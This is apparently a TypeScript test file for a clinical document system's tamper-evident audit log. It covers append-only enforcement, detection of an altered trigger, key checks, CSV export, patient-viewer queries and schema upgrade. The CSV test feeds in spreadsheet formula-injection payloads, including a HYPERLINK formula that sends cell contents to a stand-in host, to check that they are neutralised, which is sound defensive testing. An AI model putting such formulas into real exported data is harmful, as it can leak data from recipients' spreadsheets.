import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough, Writable } from 'node:stream';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_CSV_COLUMNS } from '../../src/audit/audit-csv.ts';
import { filedEvent, sentToReviewEvent } from '../../src/filing/filing-audit.ts';
import type { MatchEvidence } from '../../src/matching/match-patient.ts';
import type { ExtractedFields } from '../../src/extract/extracted-fields.ts';
import { type EmbeddedStorage, openEmbeddedStorage } from '../../src/storage/open-embedded-storage.ts';
import { chainAuditEvents } from '../../src/storage/sqlite-audit-migration.ts';
import { MIGRATIONS } from '../../src/storage/sqlite-schema.ts';
import { expectRectoError } from '../support/expect-error.ts';

/** The hash-chained audit log on a real SQLite file: appends, the database's own refusals, export, viewers, upgrade. */

const PATIENT = '9990000018';
const OTHER_PATIENT = '9990000026';
let root: string;
let documentCount = 0;

beforeAll(() => {
  root = mkdtempSync(path.join(os.tmpdir(), 'recto-audit-'));
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

function freshDataDir(): string {
  return mkdtempSync(path.join(root, 'data-'));
}

async function newDocumentId(storage: EmbeddedStorage): Promise<string> {
  documentCount++;
  const sha256 = documentCount.toString(16).padStart(64, 'a');
  const { document } = await storage.metadata.createDocumentIfAbsent({ sha256, originalKey: `sha256/aa/aa/${sha256}`, fileName: `scan-${documentCount}.png`, sizeBytes: 1, format: 'png' });
  return document.id;
}

async function collect(run: (out: PassThrough) => Promise<unknown>): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  await run(out);
  out.end();
  return Buffer.concat(chunks).toString('utf8');
}

describe('audit log', () => {
  it('chains every event, from the review store, filing and direct appends alike, and keeps its key private', async () => {
    const dataDir = freshDataDir();
    const storage = openEmbeddedStorage({ dataDir });
    try {
      const documentId = await newDocumentId(storage);
      const { item } = await storage.review.openItem({ documentId, reasons: [{ code: 'NAME_DISAGREES', message: 'x' }], extracted: {} });
      await storage.review.claim(item.id, 'r.patel');
      await storage.audit.append({ actor: 'recto', action: 'document.delivered', subjectId: documentId, before: null, after: { sink: 'fhir' } });
      // Text SQLite cannot hold as given (a lone surrogate) and text it can (NUL, emoji) must all verify.
      await storage.audit.append({ actor: 'n.\uD800bad', action: 'document.viewed', subjectId: documentId, ip: '::1', details: { note: 'a\u0000b 😀', lone: '\uDC00' } });
      const result = await storage.audit.verify();
      expect(result).toMatchObject({ ok: true, events: 4, breaks: [], head: { id: 4, hash: expect.stringMatching(/^[0-9a-f]{64}$/) } });
      expect(statSync(path.join(dataDir, 'audit.key')).mode & 0o777).toBe(0o600);
      const trail = await storage.audit.trailOf(item.id);
      expect(trail.map((event) => event.action)).toEqual(['review.opened', 'review.claimed']);
    } finally {
      await storage.close();
    }
  });

  it('refuses INSERT OR REPLACE, REPLACE, an insert without an id and one not chained to the last event', async () => {
    const dataDir = freshDataDir();
    const storage = openEmbeddedStorage({ dataDir });
    for (let n = 0; n < 3; n++) await storage.audit.append({ actor: 'r.patel', action: 'document.viewed', subjectId: `doc_${n}` });
    await storage.close();
    const db = new Database(path.join(dataDir, 'recto.sqlite'));
    try {
      const row = db.prepare('SELECT * FROM audit_events WHERE id = 2').get() as Record<string, unknown>;
      const columns = Object.keys(row);
      const insert = (verb: string, values: Record<string, unknown>) =>
        db.prepare(`${verb} INTO audit_events (${columns.join(', ')}) VALUES (${columns.map((column) => `@${column}`).join(', ')})`).run(values);
      expect(() => insert('INSERT OR REPLACE', { ...row, actor: 'someone.else' })).toThrow(/append-only/);
      expect(() => insert('REPLACE', { ...row, actor: 'someone.else' })).toThrow(/append-only/);
      const head = db.prepare('SELECT hash FROM audit_events WHERE id = 3').pluck().get();
      expect(() => insert('INSERT', { ...row, id: 4, prev_hash: row.hash })).toThrow(/append-only/); // chained to 2, not to the last event
      expect(() => db.prepare('INSERT INTO audit_events (at, actor, action, subject_id, prev_hash, hash) VALUES (1, ?, ?, ?, ?, ?)').run('x', 'y', 'z', head, head)).toThrow(/append-only/);
      expect(() => db.prepare("UPDATE audit_events SET actor = 'someone.else' WHERE id = 2").run()).toThrow(/append-only/);
      expect(() => db.prepare('DELETE FROM audit_events WHERE id = 3').run()).toThrow(/append-only/);
      expect(db.prepare('SELECT actor FROM audit_events WHERE id = 2').pluck().get()).toBe('r.patel');
      expect(db.prepare('SELECT count(*) FROM audit_events').pluck().get()).toBe(3);
    } finally {
      db.close();
    }
  });

  it('reports an append-only trigger emptied under its own name', async () => {
    const dataDir = freshDataDir();
    const storage = openEmbeddedStorage({ dataDir });
    await storage.audit.append({ actor: 'r.patel', action: 'document.viewed', subjectId: 'doc_1' });
    const db = new Database(path.join(dataDir, 'recto.sqlite'));
    db.exec('DROP TRIGGER audit_events_no_delete; CREATE TRIGGER audit_events_no_delete BEFORE DELETE ON audit_events BEGIN SELECT 1; END;');
    db.close();
    try {
      expect(await storage.audit.verify()).toMatchObject({
        ok: false,
        events: 1,
        breaks: [{ id: 0, kind: 'unprotected', problem: 'the append-only trigger audit_events_no_delete was changed: the database was altered to allow rewriting the log' }],
      });
    } finally {
      await storage.close();
    }
  });

  it('stops at once when given a key other than the one the log was written with', async () => {
    const dataDir = freshDataDir();
    const storage = openEmbeddedStorage({ dataDir });
    await storage.audit.append({ actor: 'r.patel', action: 'document.viewed', subjectId: 'doc_1' });
    await storage.close();
    const otherKey = path.join(root, `other-${documentCount++}.key`);
    await expectRectoError(Promise.resolve().then(() => openEmbeddedStorage({ dataDir, auditKeyFile: otherKey })), 'AUDIT_KEY_INVALID');
    rmSync(path.join(dataDir, 'audit.key'));
    await expectRectoError(Promise.resolve().then(() => openEmbeddedStorage({ dataDir })), 'AUDIT_KEY_INVALID');
  });

  it('exports CSV a spreadsheet cannot run, in a time range, and it reads back as written', async () => {
    const dataDir = freshDataDir();
    const storage = openEmbeddedStorage({ dataDir });
    try {
      const hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd', '\tTAB', '\rCR'];
      for (const actor of hostile) {
        await storage.audit.append({ actor, action: 'document.viewed', subjectId: `=${actor}`, ip: '-1.2.3.4', details: { fileName: '=1+1' }, patientNhsNumber: PATIENT });
        // Times are milliseconds: apart, so the range below has events on both sides of its edge.
        await new Promise((resolve) => setTimeout(resolve, 3));
      }
      const text = await collect((out) => storage.audit.exportCsv(out));
      const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
      expect(Object.keys(rows[0])).toEqual([...AUDIT_CSV_COLUMNS]);
      expect(rows.map((row) => row.actor)).toEqual(hostile.map((actor) => `'${actor}`));
      for (const row of rows) {
        for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
        expect(row.subject_id).toMatch(/^'=/);
        expect(row.ip).toBe("'-1.2.3.4");
        expect(JSON.parse(row.details)).toEqual({ fileName: '=1+1' });
        expect(row.patient_nhs_number).toBe(PATIENT);
      }

      const all = (await storage.audit.verify()).events;
      const secondAt = new Date(rows[1].at);
      const fromSecond = parse(await collect((out) => storage.audit.exportCsv(out, { from: secondAt })), { columns: true }) as unknown[];
      const beforeSecond = parse(await collect((out) => storage.audit.exportCsv(out, { to: secondAt })), { columns: true }) as unknown[];
      expect(fromSecond.length + beforeSecond.length).toBe(all);
      expect(beforeSecond.length).toBeGreaterThanOrEqual(1);
    } finally {
      await storage.close();
    }
  });

  it('streams a large export into a slow destination, waiting for it instead of buffering', async () => {
    const dataDir = freshDataDir();
    const storage = openEmbeddedStorage({ dataDir });
    try {
      const events = 2500;
      for (let n = 0; n < events; n++) await storage.audit.append({ actor: `user.${n}`, action: 'page.viewed', subjectId: 'doc_1', details: { page: n } });
      const chunks: string[] = [];
      let waits = 0;
      const slow = new Writable({
        highWaterMark: 1024,
        write(chunk: Buffer, _encoding, done) {
          chunks.push(chunk.toString('utf8'));
          setImmediate(done);
        },
      });
      slow.on('drain', () => waits++);
      const { rows } = await storage.audit.exportCsv(slow);
      slow.end();
      expect(rows).toBe(events);
      expect(waits).toBeGreaterThan(0);
      const parsed = parse(chunks.join(''), { columns: true }) as Array<Record<string, string>>;
      expect(parsed.map((row) => Number(row.id))).toEqual(Array.from({ length: events }, (_, index) => index + 1));
    } finally {
      await storage.close();
    }
  });

  it("lists who viewed a patient's documents: filed automatically, through review, and named directly", async () => {
    const dataDir = freshDataDir();
    const storage = openEmbeddedStorage({ dataDir });
    try {
      // Filed automatically by filing: the document.filed event names the patient.
      const autoFiled = await newDocumentId(storage);
      await storage.audit.append({ actor: 'c.jones', action: 'document.viewed', subjectId: autoFiled, ip: '10.1.1.1' }); // before filing: still theirs
      await storage.audit.append(filedEvent({ documentId: autoFiled, fingerprint: 'ocr-1', fields: { documentType: { key: 'discharge-summary' } } as unknown as ExtractedFields, evidence: evidenceFor(PATIENT), sinks: ['fhir'] }));
      await storage.audit.append({ actor: 'c.jones', action: 'pdf.downloaded', subjectId: autoFiled, ip: '10.1.1.1', details: { page: null } });

      // Filed through review: the approval event names the patient; views of the document and of the item count, also those before it.
      const reviewed = await newDocumentId(storage);
      const { item } = await storage.review.openItem({ documentId: reviewed, reasons: [{ code: 'NAME_DISAGREES', message: 'x' }], extracted: {} });
      await storage.audit.append(sentToReviewEvent({ documentId: reviewed, fingerprint: 'ocr-2', reviewItemId: item.id, reasonCodes: ['NAME_DISAGREES'] }));
      await storage.audit.append({ actor: 'r.patel', action: 'review.viewed', subjectId: item.id, ip: '10.2.2.2' });
      await storage.audit.append({ actor: 'r.patel', action: 'crop.viewed', subjectId: reviewed, ip: '10.2.2.2', details: { field: 'nhsNumber' } });
      await storage.review.claim(item.id, 'r.patel');
      await storage.review.decide(item.id, 'r.patel', 'approved', undefined, { corrections: { nhsNumber: PATIENT }, patientNhsNumber: PATIENT });

      // A view that names the patient directly, and what must not be counted.
      await storage.audit.append({ actor: 'a.admin', action: 'text.viewed', subjectId: 'doc_elsewhere', ip: '10.3.3.3', patientNhsNumber: '999 000 0018' });
      const someoneElses = await newDocumentId(storage);
      await storage.audit.append(filedEvent({ documentId: someoneElses, fingerprint: 'ocr-3', fields: { documentType: { key: 'letter' } } as unknown as ExtractedFields, evidence: evidenceFor(OTHER_PATIENT), sinks: [] }));
      await storage.audit.append({ actor: 'x.other', action: 'document.viewed', subjectId: someoneElses, ip: '10.9.9.9' });
      await storage.audit.append({ actor: 'recto', action: 'document.delivered', subjectId: autoFiled }); // not a view

      const viewers = await storage.audit.viewersOfPatient('999 000 0018');
      expect(viewers.map((view) => [view.actor, view.action, view.subjectId, view.ip])).toEqual([
        ['c.jones', 'document.viewed', autoFiled, '10.1.1.1'],
        ['c.jones', 'pdf.downloaded', autoFiled, '10.1.1.1'],
        ['r.patel', 'review.viewed', item.id, '10.2.2.2'],
        ['r.patel', 'crop.viewed', reviewed, '10.2.2.2'],
        ['a.admin', 'text.viewed', 'doc_elsewhere', '10.3.3.3'],
      ]);
      expect(viewers.every((view) => !Number.isNaN(Date.parse(view.at)))).toBe(true);
      expect((await storage.audit.viewersOfPatient(OTHER_PATIENT)).map((view) => view.actor)).toEqual(['x.other']);
      expect(await storage.audit.viewersOfPatient('9990000034')).toEqual([]);
      await expectRectoError(storage.audit.append({ actor: 'x', action: 'document.viewed', subjectId: 'doc_1', patientNhsNumber: 'Jane Doe' }), 'BAD_REQUEST');
    } finally {
      await storage.close();
    }
  });

  it('upgrades a database written before the chain: old events keep their ids and contents, are chained, and filed ones name their patient', async () => {
    const dataDir = freshDataDir();
    const file = path.join(dataDir, 'recto.sqlite');
    const old = new Database(file);
    old.pragma('journal_mode = WAL');
    // The schema as it was just before the chain: every migration before it.
    const chainStep = MIGRATIONS.indexOf(chainAuditEvents);
    for (const step of MIGRATIONS.slice(0, chainStep)) old.exec(step as string);
    old.pragma(`user_version = ${chainStep}`);
    const insert = old.prepare('INSERT INTO audit_events (at, actor, action, subject_id, before, after) VALUES (?, ?, ?, ?, ?, ?)');
    insert.run(1_700_000_000_000, 'recto', 'document.filed', 'doc_old', null, JSON.stringify({ nhsNumber: PATIENT, ocr: 'f' }));
    insert.run(1_700_000_000_001, 'recto', 'document.sent-to-review', 'doc_other', null, JSON.stringify({ reviewItemId: 'rev_x' }));
    insert.run(1_700_000_000_002, 'r.patel', 'review.claimed', 'rev_x', JSON.stringify({ status: 'open' }), null);
    old.close();

    const storage = openEmbeddedStorage({ dataDir });
    try {
      expect(await storage.audit.verify()).toMatchObject({ ok: true, events: 3 });
      await storage.audit.append({ actor: 'c.jones', action: 'document.viewed', subjectId: 'doc_old' });
      expect(await storage.audit.verify()).toMatchObject({ ok: true, events: 4, head: { id: 4 } });
      expect((await storage.audit.viewersOfPatient(PATIENT)).map((view) => view.actor)).toEqual(['c.jones']);
      expect((await storage.audit.trailOf('rev_x'))[0]).toMatchObject({ id: 3, actor: 'r.patel', action: 'review.claimed', before: { status: 'open' }, after: null });
    } finally {
      await storage.close();
    }
    expect(readFileSync(path.join(dataDir, 'audit.key'), 'utf8')).toMatch(/^[0-9a-f]{64}\n$/);
  });
});

function evidenceFor(nhsNumber: string): MatchEvidence {
  return {
    nhsNumber: { value: nhsNumber, confidence: 95 },
    patientName: { confidence: 92 },
    birthDate: { confidence: 90 },
    confirmingMrns: [],
  } as unknown as MatchEvidence;
}
